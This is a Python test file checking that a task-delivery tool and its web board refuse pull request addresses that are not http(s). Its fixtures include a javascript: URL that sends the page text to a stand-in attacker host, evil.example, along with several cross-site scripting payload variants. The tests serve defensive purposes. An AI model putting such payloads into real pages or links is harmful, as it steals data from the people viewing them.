"""Only http(s) addresses become links. A `gh` that answers with a `javascript:` pull request
address fails the delivery, saying so, and nothing records it as the task's pull request; an
older store that holds one shows it on no card as a link; and the page itself links nothing
else, whatever the server sends it."""

from __future__ import annotations

import json
import shlex
import sys
from pathlib import Path
from typing import Any

import pytest

from taskhand.config import Delivery
from taskhand.pipeline.lifecycle import plan_key
from taskhand.run.preflight import load
from taskhand.state.life import Lifecycle
from taskhand.state.paths import StateDir
from taskhand.state.store import Store
from tests.agents.pictures import needs_browser
from tests.board.pages import browser
from tests.board.test_app import TOKEN, call, served, serving
from tests.delivery.remotes import FAKE_GH, with_remote
from tests.plans import md_plan, md_task
from tests.runs import attempt, make_repo, run_plan, script, write

__all__ = ["browser", "served"]
HOSTILE = 'javascript:fetch("//evil.example/?"+document.body.innerText)//'


def test_a_javascript_pull_request_address_is_never_recorded(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    files = {f"plan/{k}": str(v) for k, v in md_plan().items()}
    files["plan/T-001-a.md"] = md_task("T-001", "Write a")
    repo = make_repo(tmp_path / "repo", {"README.md": "# p\n", **files})
    with_remote(repo, tmp_path, monkeypatch)
    # gh answers `pr view` with an address that would run in the person's browser.
    stand_in = tmp_path / "gh"
    answer = json.dumps({"url": HOSTILE, "state": "OPEN"})
    stand_in.write_text(
        "#!/bin/sh\n"
        f'if [ "$1 $2" = "pr view" ]; then printf "%s\\n" {shlex.quote(answer)}; exit 0; fi\n'
        f'exec {shlex.quote(sys.executable)} {shlex.quote(str(FAKE_GH))} "$@"\n'
    )
    stand_in.chmod(0o755)
    monkeypatch.setenv("TASKHAND_GH", str(stand_in))
    replay = script(tmp_path, {"T-001": [attempt(write("a.txt", "a\n"))]})
    summary, record = run_plan(repo / "plan", repo, replay, settings={"deliver": Delivery("task")})
    assert summary.status == "failed"
    with Store.open(StateDir.for_repo(repo).database) as store:
        [row] = store.deliveries(summary.run_id)
        state = store.task_states(summary.run_id)["T-001"]
        life = store.life(plan_key(load(repo / "plan")), "T-001")
    assert (row.state, row.pr_url) == ("failed", "")
    assert "printed an address that is not http(s): javascript:" in state.reason
    assert life is not None and not life.pr
    assert record.of("delivered") == []
    with serving(repo) as port:
        [task] = call(port, "GET", "/api/plan")[1]["tasks"]
    assert task["pr"] is None


def plant_pull_request(repo: Path, address: str) -> None:
    """T-001 delivered with `address` as its pull request, as a store written before the
    delivery refused such addresses holds it."""
    with Store.open(StateDir.for_repo(repo).database) as store:
        store.set_life(plan_key(load(repo / "plan")), "T-001", Lifecycle.DELIVERED, pr=address)


def answering_with(address: str) -> Any:
    """A route handler that gives the plan's answer with T-001's pull request at `address`."""

    def answer(route: Any) -> None:
        found = route.fetch()
        plan = found.json()
        plan["tasks"][0]["pr"] = address
        route.fulfill(response=found, body=json.dumps(plan))

    return answer


@needs_browser
def test_no_card_links_an_address_that_is_not_http(served: tuple[int, Path], browser: Any) -> None:
    port, repo = served
    plant_pull_request(repo, HOSTILE)
    assert call(port, "GET", "/api/plan")[1]["tasks"][0]["pr"] is None  # the server drops it
    page = browser.new_page()
    page.goto(f"http://127.0.0.1:{port}/#token={TOKEN}")
    page.locator("[data-status=delivered] [data-task=T-001]").wait_for()
    assert page.locator("a").count() == 0
    # The page keeps to the rule on its own, whatever the plan's answer says.
    for address, linked in [
        (HOSTILE, False),
        (" JaVaScRiPt:alert(1)", False),
        ("\tjava\nscript:alert(1)", False),
        ("data:text/html,<script>alert(1)</script>", False),
        ("vbscript:msgbox(1)", False),
        ("//evil.example/pull/1", False),
        ("https://github.example/owner/project/pull/7", True),
    ]:
        context = browser.new_context()
        shown = context.new_page()

        shown.route("**/api/plan", answering_with(address))
        shown.goto(f"http://127.0.0.1:{port}/#token={TOKEN}")
        card = shown.locator("[data-status=delivered] [data-task=T-001]")
        card.wait_for()
        links = card.locator("a")
        if linked:
            assert links.get_attribute("href") == address
        else:
            assert links.count() == 0, address
            assert card.locator(".pr").inner_text().startswith("pull request: ")  # as text
        context.close()
